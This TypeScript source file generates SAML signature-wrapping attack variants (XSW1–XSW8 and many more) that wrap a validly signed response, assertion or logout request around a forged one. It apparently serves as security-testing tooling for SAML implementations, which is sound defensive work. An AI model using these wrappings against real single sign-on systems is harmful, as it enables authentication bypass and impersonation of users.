import { append, inObject, type Pieces } from './pieces.ts';

/** Of a message that is signed as a whole, or of a signed assertion in one. */
export type Wrapping = (pieces: Pieces) => string;

const inResponse = ({ message, signed }: Pieces, content: string) =>
  message.replace(signed, content);

/**
 * Signature wrapping as Somorovsky and others named it (USENIX Security 2012): 1 and 2 of a signed
 * response, the others of a signed assertion.
 */
export const responseWrappings: Record<string, Wrapping> = {
  'XSW1: the signed response inside the signature of another': ({ evilSigned, signature, bare }) =>
    evilSigned.replace(signature, append(signature, bare)),
  'XSW2: the signed response beside its signature in another': ({ evilSigned, signature, bare }) =>
    evilSigned.replace(signature, bare + signature),
  'the signed response as the last child of another': ({ evil, signed }) => append(evil, signed),
  'the signed response in the status of another': ({ evil, signed }) =>
    evil.replace(
      '</samlp:Status>',
      `<samlp:StatusDetail>${signed}</samlp:StatusDetail></samlp:Status>`,
    ),
  'the signed response in the extensions of another': ({ evil, signed }) =>
    evil.replace('<samlp:Status>', `<samlp:Extensions>${signed}</samlp:Extensions><samlp:Status>`),
  'the signed response in an object of the signature of another': ({
    evilSigned,
    signature,
    bare,
  }) => evilSigned.replace(signature, inObject(signature, bare)),
};

export const assertionWrappings: Record<string, Wrapping> = {
  'XSW3: another assertion before the signed one': (p) => inResponse(p, p.evil + p.signed),
  'XSW4: the signed assertion inside another': (p) => inResponse(p, append(p.evil, p.signed)),
  'XSW5: another assertion with the signature, the bare one behind': (p) =>
    inResponse(p, p.evilSigned + p.bare),
  'XSW6: the bare assertion inside the signature of another': (p) =>
    inResponse(p, p.evilSigned.replace(p.signature, append(p.signature, p.bare))),
  'XSW7: another assertion in the extensions': (p) =>
    inResponse(p, p.signed).replace(
      '<samlp:Status>',
      `<samlp:Extensions>${p.evil}</samlp:Extensions><samlp:Status>`,
    ),
  'XSW8: the bare assertion in an object of the signature of another': (p) =>
    inResponse(p, p.evilSigned.replace(p.signature, inObject(p.signature, p.bare))),
  'another assertion behind the signed one': (p) => inResponse(p, p.signed + p.evil),
  'the signed assertion as the advice of another': (p) =>
    inResponse(
      p,
      p.evil.replace('<saml:AuthnStatement', `<saml:Advice>${p.signed}</saml:Advice>$&`),
    ),
  'the signed assertion as an attribute of another': (p) =>
    inResponse(
      p,
      append(
        p.evil,
        `<saml:AttributeStatement><saml:Attribute Name="x"><saml:AttributeValue>${p.signed}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
      ),
    ),
  'the signed assertion in the confirmation of another': (p) =>
    inResponse(
      p,
      p.evil.replace(
        /(<saml:SubjectConfirmationData[^>]*)\/>/,
        `$1>${p.signed}</saml:SubjectConfirmationData>`,
      ),
    ),
  'the signed assertion in the status': (p) =>
    inResponse(p, p.evil).replace(
      '</samlp:Status>',
      `<samlp:StatusDetail>${p.signed}</samlp:StatusDetail></samlp:Status>`,
    ),
  'the signed assertion in the name of another': (p) =>
    inResponse(p, p.evil.replace('</saml:NameID>', `</saml:NameID>${p.signed}`)),
  'the signed response as a whole in an assertion of another': (p) => {
    const outer = inResponse(p, p.evil);
    return append(outer, p.message).replace(/ ID="_/, ' ID="_0');
  },
  'another assertion of no namespace before the signed one': (p) =>
    inResponse(p, p.evil.replaceAll('saml:', '').replace('xmlns:saml=', 'data-x=') + p.signed),
  'another assertion without an id before the signed one': (p) =>
    inResponse(p, p.evil.replace(/ ID="[^"]+"/, '') + p.signed),
};

export const logoutWrappings: Record<string, Wrapping> = {
  'the signed request in the extensions of another': ({ evil, signed }) =>
    evil.replace('</saml:Issuer>', `</saml:Issuer><samlp:Extensions>${signed}</samlp:Extensions>`),
  'the signed request inside the signature of another': ({ evilSigned, signature, bare }) =>
    evilSigned.replace(signature, append(signature, bare)),
  'the signed request in an object of the signature of another': ({
    evilSigned,
    signature,
    bare,
  }) => evilSigned.replace(signature, inObject(signature, bare)),
  'the signed request beside its signature in another': ({ evilSigned, signature, bare }) =>
    evilSigned.replace(signature, bare + signature),
  'the signed request as the last child of another': ({ evil, signed }) => append(evil, signed),
};
